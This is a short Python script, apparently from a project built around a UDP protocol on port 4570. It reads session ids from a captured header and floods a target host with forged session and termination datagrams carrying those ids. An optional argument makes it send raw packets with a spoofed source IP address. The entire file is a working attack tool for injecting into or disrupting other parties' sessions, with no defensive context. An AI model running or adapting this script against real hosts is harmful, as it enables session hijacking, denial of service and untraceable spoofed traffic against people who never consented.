#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""busy.py FILE HOST COUNT [SOURCE]: COUNT datagrams of each type but Sess0 with the
session ids of the header in FILE, which somebody has seen, from the COI port of this
host or of SOURCE."""

import os
import socket
import struct
import sys

COI = 4570


def forged(payload, source, target):
    """An IPv4 packet with a UDP datagram without checksum."""
    udp = struct.pack("!HHHH", COI, COI, 8 + len(payload), 0) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + udp


with open(sys.argv[1]) as stream:
    seen = bytes.fromhex(stream.read())
target, count = sys.argv[2], int(sys.argv[3])
source = sys.argv[4] if len(sys.argv) > 4 else None
if source:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
else:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("", COI))
# Sess1, Sess2, TERM, Sess3: of a length that each may have
for kind in (1, 2, 4, 5):
    for _ in range(count):
        datagram = seen[:5] + bytes([kind]) + seen[6:7] + b"\0" + seen[8:24] + os.urandom(204)
        sock.sendto(forged(datagram, source, target) if source else datagram, (target, COI))
print("sent", 4 * count, "datagrams")
